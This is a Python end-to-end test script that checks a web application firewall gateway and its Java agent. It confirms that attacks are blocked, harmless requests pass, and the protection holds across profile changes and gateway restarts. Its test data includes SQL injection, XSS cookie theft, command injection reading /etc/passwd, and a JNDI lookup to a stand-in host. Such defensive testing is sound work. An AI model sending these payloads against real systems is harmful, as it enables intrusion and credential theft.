#!/usr/bin/env python3
"""The Java sample, with its agent, against a real gateway: e2e_agent_java.py ERNE SAMPLE_JAR (see e2e_agent_java.sh)."""

import json
import os
import re
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path

ATTACKS = {
    "SQL injection in the query": ("GET", "/search?q=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--%20", None, {}),
    "script in a form": ("POST", "/form", b"comment=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {"Content-Type": "application/x-www-form-urlencoded"}),
    "command in JSON": ("POST", "/json", b'{"host": "127.0.0.1;cat /etc/passwd"}', {"Content-Type": "application/json"}),
    "lookup in a header": ("GET", "/search", None, {"X-Api-Version": "${jndi:ldap://evil.example/a}"}),
}
HARMLESS = {
    "a search": ("GET", "/search?q=blue+shoes", None, {}),
    "a form": ("POST", "/form", b"name=Bj%C3%B6rk&city=Oslo", {"Content-Type": "application/x-www-form-urlencoded"}),
    "JSON": ("POST", "/json", b'{"n": 1, "text": "it is 5 o\'clock"}', {"Content-Type": "application/json"}),
}
passed = 0


def check(what: str, true: bool, said: object = "") -> None:
    global passed
    if not true:
        raise SystemExit(f"FAILED: {what} {said}")
    passed += 1
    print(f"  ok: {what}")


def send(base: str, request: tuple, more: dict | None = None) -> tuple[int, bytes]:
    method, path, body, headers = request
    asked = urllib.request.Request(base + path, data=body, method=method, headers={"User-Agent": "Mozilla/5.0", **headers, **(more or {})})
    try:
        with urllib.request.urlopen(asked, timeout=30) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def until(what: str, true, seconds: float = 30) -> None:
    end = time.monotonic() + seconds
    while not true():
        if time.monotonic() > end:
            raise SystemExit(f"FAILED: not within {seconds:.0f} s: {what}")
        time.sleep(0.1)
    check(what, True)


class Program:
    """A process whose output is searched for the line that says it listens."""

    def __init__(self, command: list[str], log: Path, pattern: str) -> None:
        self.log = log
        with log.open("ab") as out:
            begin = log.stat().st_size
            self.process = subprocess.Popen(command, stdout=out, stderr=out, stdin=subprocess.DEVNULL)
        end = time.monotonic() + 120
        while True:
            found = re.search(pattern, log.read_text(errors="replace")[begin:])
            if found:
                self.found = found.group(1)
                return
            if self.process.poll() is not None or time.monotonic() > end:
                raise SystemExit(f"FAILED: {command[0]} does not start:\n{log.read_text(errors='replace')[-3000:]}")
            time.sleep(0.1)

    def end(self, how: int = signal.SIGTERM) -> int:
        if self.process.poll() is None:
            self.process.send_signal(how)
        try:
            return self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
            return -9


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class Admin:
    def __init__(self, url: str, password: str) -> None:
        self.url = url
        self.token = ""
        self.token = self.send("POST", "/api/v1/token", {"user": "admin", "password": password})["access_token"]

    def send(self, method: str, path: str, body: object = None) -> dict:
        headers = {"Content-Type": "application/json", **({"Authorization": f"Bearer {self.token}"} if self.token else {})}
        status, text = send(self.url, (method, path, None if body is None else json.dumps(body).encode(), headers))
        if status >= 300:
            raise SystemExit(f"FAILED: {method} {path}: {status} {text.decode(errors='replace')}")
        return json.loads(text or b"{}")


def main() -> None:
    erne, jar = sys.argv[1:3]
    running: list[Program] = []
    with tempfile.TemporaryDirectory(prefix="erne-e2e-java-") as temporary:
        try:
            run(erne, jar, Path(temporary), running)
        finally:
            for program in running:
                program.end(signal.SIGKILL)
    print(f"{passed} passed, 0 failed")


def run(erne: str, jar: str, folder: Path, running: list[Program]) -> None:
    listen = f"127.0.0.1:{free_port()}"
    serve = [erne, "run", "--listen", listen, "--data-dir", str(folder / "data")]
    gateway = Program(serve, folder / "erne.log", r"with the password (\S+)\n")
    running.append(gateway)
    url = f"http://{listen}"
    admin = Admin(url, gateway.found)
    made = admin.send("POST", "/api/v1/agents", {"name": "java-sample", "application": "sample"})
    profile = admin.send("POST", "/api/v1/profiles", {"name": "sample", "template": "protect"})
    admin.send("PUT", "/api/v1/applications/sample", {"profile": profile["id"]})
    options = {"gateway": url, "id": made["agent"]["id"], "secret": made["secret"], "application": "sample", "data-dir": str(folder / "agent"), "forward-every": "200ms"}
    sample = ["java", "-Xmx256m", "-jar", jar, "--server.port=0", "--server.address=127.0.0.1", *(f"--erne.agent.{name}={value}" for name, value in options.items())]
    app = Program(sample, folder / "sample.log", r"Tomcat started on port (\d+)")
    running.append(app)
    base = f"http://127.0.0.1:{app.found}"

    for what, request in HARMLESS.items():
        status, body = send(base, request)
        check(f"{what} passes", status == 200, (status, body))
    handled = send(base, ("GET", "/handled", None, {}))[1]
    for what, request in ATTACKS.items():
        status, body = send(base, request)
        check(f"{what} is blocked", status == 403 and b"Request blocked" in body, (status, body))
    check("no handler ran for them", send(base, ("GET", "/handled", None, {}))[1] == handled)

    times = []
    for _ in range(300):
        begin = time.perf_counter()
        send(base, HARMLESS["a search"])
        times.append(time.perf_counter() - begin)
    print(f"  a harmless request by the gateway takes {statistics.median(times) * 1000:.1f} ms (median of {len(times)}, new connections)")

    seen = admin.send("GET", "/api/v1/agents")
    check("the gateway lists the agent", made["agent"]["id"] in json.dumps(seen), seen)

    watching = admin.send("POST", "/api/v1/profiles", {"name": "watching", "template": "watch"})
    admin.send("PUT", "/api/v1/applications/sample", {"profile": watching["id"]})
    attack = ATTACKS["SQL injection in the query"]
    until("a new profile holds while the application runs", lambda: send(base, attack)[0] == 200)
    admin.send("PUT", "/api/v1/applications/sample", {"profile": profile["id"]})
    until("and so does the old one again", lambda: send(base, attack)[0] == 403)

    gateway.end(signal.SIGKILL)
    check("without the gateway requests pass, as the profile says", send(base, HARMLESS["a search"])[0] == 200)
    check("attacks too: nobody can ask", send(base, attack)[0] == 200)
    gateway = Program(serve, folder / "erne.log", r"watching at (\S+)")
    running.append(gateway)
    until("after its restart attacks are blocked again", lambda: send(base, attack)[0] == 403, 60)
    check("the application ends when told to", app.end() in (0, 143))


if __name__ == "__main__":
    os.environ.pop("JAVA_TOOL_OPTIONS", None)
    main()
